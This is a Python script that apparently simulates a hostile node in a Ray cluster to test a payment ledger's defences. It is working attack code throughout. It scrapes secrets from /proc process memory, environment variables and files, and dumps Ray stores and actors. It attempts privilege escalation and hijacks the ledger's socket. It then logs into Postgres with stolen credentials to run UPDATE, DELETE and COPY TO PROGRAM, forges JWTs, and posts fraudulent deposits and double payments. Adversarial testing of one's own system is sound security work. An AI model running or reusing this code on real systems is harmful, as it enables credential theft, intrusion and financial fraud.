"""What a hostile machine of the cluster would do: a driver on it sends code to the head, which takes what it finds and tries to make money.

`python hostile.py HEAD ADDRESS LOOT NODE CONSUMER`: the head's `host:port`, this machine's address, a new folder on the head for what is
found, the node that should get the money, a file with the credential of a consumer in league. It needs no more than a join gives.
"""

import asyncio
import json
import os
import re
import signal
import socket
import sys
import time
import uuid
from contextlib import suppress
from pathlib import Path

import aiohttp
import jwt
import psycopg

from cluster.service_tokens import ServiceTokens

PROC = Path("/proc")
ROOTS = ("/tmp", "/var/lib/gfe", "/root", "/etc", "/home", "/run", "/var/log")
SKIPPED = ("site-packages", "__pycache__", "/.git", "/lib/python", "node_modules")
MAX_FILE_BYTES = 4 << 20
MAX_MAP_BYTES = 64 << 20
MAX_MEMORY_S = 60
KV = (None, "fun", "job", "cluster", "dashboard", "session", "serve", "workflow", "package")
PEM = rb"-----BEGIN PRIVATE KEY-----[ -~\n\\]+?-----END PRIVATE KEY-----"
HEX = rb"(?<![0-9a-f])[0-9a-f]{48,64}(?![0-9a-f])"
# Everything that looks like one of our secrets: URLs with passwords, keys, keys of consumers, secrets of webhooks, long hexadecimal numbers.
SECRETS = rb"postgresql://[ -~]{8,200}|" + PEM + rb"|gfe_live_\w{20,80}|whsec_[\w+/=]{20,60}|" + HEX
STATEMENTS = (
    "UPDATE ledger.account SET posted = posted + 1000000", "SET ROLE gfe_ledger_owner", "SET ROLE gfe_ledger", "SET ROLE postgres",
    "CREATE TABLE ledger.x (y int)", "COPY (SELECT 1) TO PROGRAM 'id'", "SELECT pg_read_file('PG_VERSION')",
)  # fmt: skip
LARGEST = 2**31 - 1
REPEATS = 20


def who():
    """As whom the code runs."""
    facts = dict(line.split(":", 1) for line in (PROC / "self" / "status").read_text().splitlines())
    return {"uid": os.getuid(), "groups": os.getgroups(), "capabilities": facts["CapEff"].strip(), "host": os.uname().nodename}


# --- taking ---------------------------------------------------------------------------------------------------------------------------


class Loot:
    """A folder of what was found, with counts of what could be read and what was refused."""

    def __init__(self, folder):
        self.path = Path(folder) / "loot"
        self.read = {}
        self.refused = {}

    def keep(self, where, raw):
        with self.path.open("ab") as file:
            file.write(f"{where}\t".encode() + raw + b"\n")

    def sift(self, where, raw):
        for match in set(re.findall(SECRETS, raw)):
            self.keep(where, match)

    def try_to(self, kind, take):
        """Count one try."""
        try:
            take()
        except (OSError, ValueError):
            self.refused[kind] = self.refused.get(kind, 0) + 1
        else:
            self.read[kind] = self.read.get(kind, 0) + 1


def pids():
    return sorted((int(entry.name) for entry in PROC.iterdir() if entry.name.isdigit()), reverse=True)


def take(folder):
    """Read all that can be read."""
    loot = Loot(folder)
    until = time.monotonic() + MAX_MEMORY_S
    for pid in pids():
        for what in ("environ", "cmdline"):
            path = PROC / str(pid) / what
            loot.try_to(what, lambda path=path: loot.keep(path, path.read_bytes()))
        loot.try_to("memory", lambda pid=pid: take_memory(loot, pid, until))
    for root in ROOTS:
        for path in files_below(root):
            if not str(path).startswith(folder):
                loot.try_to("files", lambda path=path: loot.sift(path, path.read_bytes()))
    for told in set(re.findall(rb"(?:GFE_SECRETS_DIR|RAY_AUTH_TOKEN_PATH)=([^\0\n]+)", loot.path.read_bytes())):
        path = Path(told.decode(errors="replace"))
        for one in {path, *([] if path.is_file() else path.glob("*")), *path.parent.glob("*")}:
            loot.try_to("told files", lambda one=one: loot.keep(one, one.read_bytes()))
    return {"read": loot.read, "refused": loot.refused}


def take_memory(loot, pid, until):
    """Look through what a process may write, for what looks like a secret."""
    maps = (PROC / str(pid) / "maps").read_text().splitlines()
    with (PROC / str(pid) / "mem").open("rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            first, last = (int(end, 16) for end in span.split("-"))
            if "rw" in rights and last - first <= MAX_MAP_BYTES and "shm" not in line and time.monotonic() < until:
                with suppress(OSError, ValueError):
                    memory.seek(first)
                    loot.sift(f"/proc/{pid}/mem", memory.read(last - first))


def files_below(root):
    for folder, folders, names in os.walk(root):
        folders[:] = [name for name in folders if not any(skipped in f"{folder}/{name}" for skipped in SKIPPED)]
        for path in (Path(folder) / name for name in names):
            with suppress(OSError):
                if path.is_file() and path.stat().st_size < MAX_FILE_BYTES:
                    yield path


def inside(actor):
    """All that an actor has: its attributes and what these have, and its environment."""
    seen, waiting, words = set(), [(actor, 0)], [repr(dict(os.environ))]
    while waiting and len(words) < 20_000:
        one, depth = waiting.pop()
        if id(one) in seen or depth > 6:
            continue
        seen.add(id(one))
        if isinstance(one, bytes | str | int | float):
            words.append(one.decode(errors="replace") if isinstance(one, bytes) else str(one))
        else:
            waiting += [(inner, depth + 1) for inner in parts_of(one)]
    return "\n".join(words).encode()


def parts_of(one):
    if isinstance(one, dict):
        return [inner for pair in one.items() for inner in pair]
    if isinstance(one, list | tuple | set | frozenset):
        return list(one)
    if hasattr(one, "private_bytes_raw"):
        return [one.private_bytes_raw().hex()]
    slots = [name for kind in type(one).__mro__ for name in getattr(kind, "__slots__", ()) if isinstance(name, str)]
    return [*getattr(one, "__dict__", {}).values(), *(getattr(one, name, None) for name in slots)]


# --- becoming more --------------------------------------------------------------------------------------------------------------------


def change(folder):
    """Try to become more than one is; answer what worked."""
    import serve_app

    ledger, supervisor = pid_of("ledger.cli", "serve"), pid_of("serve_app.local.up")
    wrapper = Path(os.environ["RAY_SERVE_HAPROXY_BINARY_PATH"])
    return those_that_work(folder, {
        "become root": lambda: os.setuid(0),
        "become the ledger": lambda: os.setuid(60_900),
        "write our code": lambda: Path(serve_app.__file__).open("a").close(),
        "write Python": lambda: Path(os.__file__).open("a").close(),
        "plant a preload": lambda: Path("/etc/ld.so.preload").open("a").close(),
        "stop the ledger": lambda: os.kill(ledger, signal.SIGSTOP),
        "stop the supervisor": lambda: os.kill(supervisor, signal.SIGSTOP),
        "read the ledger's memory": lambda: (PROC / str(ledger) / "mem").open("rb").close(),
        "listen in the ledger's place": listen_in_the_ledgers_place,
        "replace what starts HAProxy": lambda: wrapper.rename(f"{wrapper}.old"),
        "see all of the file system": lambda: list((PROC / "1" / "root").iterdir()),
    })  # fmt: skip


def those_that_work(folder, tries):
    worked = []
    for name, attempt in tries.items():
        try:
            attempt()
            worked.append(name)
        except OSError as refused:
            with (Path(folder) / "refused").open("a") as file:
                file.write(f"{name}: {refused}\n")
    return worked


def pid_of(*words):
    for pid in pids():
        with suppress(OSError):
            command = (PROC / str(pid) / "cmdline").read_text()
            if all(word in command for word in words) and pid != os.getpid():
                return pid
    raise LookupError(words)


def sockets():
    """The ledger's: the kernel knows each by the name that it was bound to, which is its final one and a number."""
    names = {line.split()[-1] for line in (PROC / "net" / "unix").read_text().splitlines() if "internal.sock" in line}
    return sorted({name.partition("internal.sock")[0] + "internal.sock" for name in names})


def listen_in_the_ledgers_place():
    path = Path(sockets()[0])
    path.unlink()
    socket.socket(socket.AF_UNIX).bind(str(path))


# --- making money ---------------------------------------------------------------------------------------------------------------------


class Minting:
    """Tries with what was taken; `worked` is what should not have."""

    def __init__(self, folder, node, consumer):
        self.raw = (Path(folder) / "loot").read_bytes()
        self.keys = set(filter(is_key, (one.replace(b"\\n", b"\n") for one in re.findall(PEM, self.raw))))
        self.node = node
        self.credential = Path(consumer).read_text().strip()
        self.worked, self.logins, self.said = [], set(), []

    # PostgreSQL: each login that was found, and the others with each password that was found.

    def by_the_database(self):
        urls = {one.decode(errors="replace") for one in re.findall(rb"postgresql://[^\s\0'\"<>]+", self.raw)}
        passwords = ["", *sorted({one.decode() for one in re.findall(HEX, self.raw)})[:20]]
        for url in sorted(urls)[:1]:
            urls |= {swapped(url, role, password) for role in ("postgres", "gfe_ledger", "gfe_pay") for password in passwords}
        for url in urls:
            try:
                with psycopg.connect(url, connect_timeout=3, autocommit=True) as connection:
                    self.logins.add(connection.info.user)
                    self.ask_for_all(connection)
            except psycopg.Error as refused:
                self.said.append(f"{swapped(url, '…', '…')}: {refused}")

    def ask_for_all(self, connection):
        tables = [row[0] for row in connection.execute("SELECT tablename FROM pg_tables WHERE schemaname = 'ledger'").fetchall()]
        for statement in (*STATEMENTS, *(f"{verb} ledger.{table}" for table in tables for verb in ("SELECT * FROM", "DELETE FROM"))):
            try:
                connection.execute(statement)
                self.worked.append(f"{connection.info.user}: {statement}")
            except psycopg.Error as refused:
                self.said.append(f"{connection.info.user}: {statement}: {refused}")

    # The ledger's internal socket: with each key, as each service that there could be.

    async def by_the_socket(self):
        for path in sockets():
            async with aiohttp.ClientSession(connector=aiohttp.UnixConnector(path)) as http:
                for key in self.keys:
                    for issuer in ("serve", "edge", "operator", "auditor"):
                        await self.as_service(http, issuer, {"Authorization": f"Bearer {token(key, issuer, 'ledger-internal')}"})

    async def as_service(self, http, issuer, headers):
        for batch in self.batches():
            async with http.post("http://ledger/internal/v1/operations", json={"operations": batch}, headers=headers) as answer:
                self.said.append(f"internal as {issuer}: {answer.status} {await answer.text()}")
                if answer.status == 200:
                    self.logins.add(f"internal:{issuer}")
        for route in ("deposit", "users", "keys", "corrections", "transfer"):
            async with http.post(f"http://ledger/internal/v1/{route}", json={}, headers=headers) as answer:
                if answer.status < 400:
                    self.worked.append(f"internal route {route} as {issuer}")

    def batches(self):
        """Operations that do not exist; a stranger's holds; a payment twice; broken jobs that the platform is to pay for, again and again."""
        stranger, taken, *given_back = (str(uuid.uuid4()) for _ in range(2 + REPEATS))
        job = {"model": "hostile", "prompt_tokens": 1000, "max_tokens": 10_000, "ttl_s": 600}
        claimed = {"node": self.node, "attempt": 1, "prompt_tokens": LARGEST, "completion_tokens": LARGEST}
        served = claimed | {"outcome": "succeeded", "counted_by": "platform"}
        yield [
            {"op": "deposit", "person": "operator", "amount": 10**12}, {"op": "correct", "account": "operator", "amount": 10**12},
            {"op": "capture", "id": stranger, **served}, {"op": "place_hold", "id": stranger, "credential": "gfe_live_00000000_x_000000", **job},
            *({"op": "place_hold", "id": one, "credential": self.credential, **job} for one in (taken, *given_back)),
        ]  # fmt: skip
        yield [
            *({"op": "capture", "id": taken, **served} for _ in range(2)),
            *({"op": "void", "id": one, "reason": "x", "served": claimed} for one in given_back for _ in range(2)),
            *({"op": "capture", "id": one, **served} for one in given_back),
        ]

    # The routes that everybody reaches, with tokens signed by what was found.

    async def by_the_public_routes(self):
        told = re.findall(rb"GFE_LEDGER_URL=([^\0\n]+)", self.raw)
        ledger = told[0].decode() if told else "http://127.0.0.1:8080"
        forged = [
            token(key, issuer, audience, sub=subject, sid=str(uuid.uuid4()), scope="admin jobs:write wallet:read", role="OPERATOR")
            for key in self.keys for issuer in (ledger, "serve", "gfe") for audience in ("api", "operator", "ledger-internal")
            for subject in ("operator", "1")
        ]  # fmt: skip
        deposit = {"type": "deposit.succeeded", "deposit_id": "x", "amount": "1000.00", "currency": "EUR"}
        tries = (
            ("POST", "/api/admin/corrections/", {"account": "gfe", "amount": "1000.00", "reason": "x"}), ("GET", "/api/admin/people/", None),
            ("POST", "/api/payments/webhook/mock/", deposit),
        )  # fmt: skip
        async with aiohttp.ClientSession() as http:
            for bearer in ("", *forged):
                headers = {"Authorization": f"Bearer {bearer}"} if bearer else {}
                for method, path, body in tries:
                    async with http.request(method, ledger + path, json=body, headers=headers) as answer:
                        self.said.append(f"{path}: {answer.status}")
                        if answer.status < 400:
                            self.worked.append(f"{method} {path}")


def is_key(pem):
    try:
        ServiceTokens(pem, "serve")
    except ValueError:  # our own pattern, found in memory
        return False
    return True


def swapped(url, role, password):
    return re.sub(r"//[^@]*@", f"//{role}:{password}@", url, count=1)


def token(key, issuer, audience, **more):
    claims = {"iss": issuer, "aud": audience, "iat": int(time.time()), "exp": int(time.time()) + 60, "jti": uuid.uuid4().hex}
    return jwt.encode(claims | more, key, algorithm="EdDSA")


def mint(folder, node, consumer):
    """Try to make money with what was taken; answer what was not refused."""
    minting = Minting(folder, node, consumer)
    minting.by_the_database()
    asyncio.run(minting.by_the_socket())
    asyncio.run(minting.by_the_public_routes())
    with (Path(folder) / "refused").open("a") as file:
        file.write("\n".join(minting.said) + "\n")
    return {"worked": minting.worked, "logins": sorted(minting.logins), "keys": len(minting.keys), "sockets": len(sockets())}


# --- the driver -----------------------------------------------------------------------------------------------------------------------


def main(head, address, folder, node, consumer):
    import ray
    from ray.experimental.internal_kv import _internal_kv_get, _internal_kv_list
    from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

    ray.init(head, namespace="gfe", _node_ip_address=address, log_to_driver=False, logging_level="error")
    top = next(one["NodeID"] for one in ray.nodes() if one["Alive"] and "node:__internal_head__" in one["Resources"])
    there = ray.remote(num_cpus=0, scheduling_strategy=NodeAffinitySchedulingStrategy(top, soft=False))

    def on_head(function, *arguments):
        return ray.get(there(function).remote(*arguments), timeout=200)

    on_head(make, folder)
    told = {"who": on_head(who), "stored in Ray": 0, "actors": {}}
    for namespace in KV:
        for key in _internal_kv_list(b"", namespace=namespace):
            on_head(keep, folder, key, (_internal_kv_get(key, namespace=namespace) or b"")[:100_000])
            told["stored in Ray"] += 1
    for named in ray.util.list_named_actors(all_namespaces=True):
        actor = ray.get_actor(named["name"], namespace=named["namespace"])
        try:
            said = ray.get(actor.__ray_call__.remote(inside), timeout=20)
        except ray.exceptions.RayError as refused:
            told["actors"][named["name"]] = type(refused).__name__
        else:
            told["actors"][named["name"]] = len(said)
            on_head(keep, folder, named["name"].encode(), said)
    told |= {"taken": on_head(take, folder), "changed": on_head(change, folder), "minted": on_head(mint, folder, node, consumer)}
    sys.stdout.write(json.dumps(told))


def make(folder):
    Path(folder).mkdir()


def keep(folder, where, raw):
    Loot(folder).keep(where.decode(errors="replace"), raw)


if __name__ == "__main__":
    main(*sys.argv[1:])
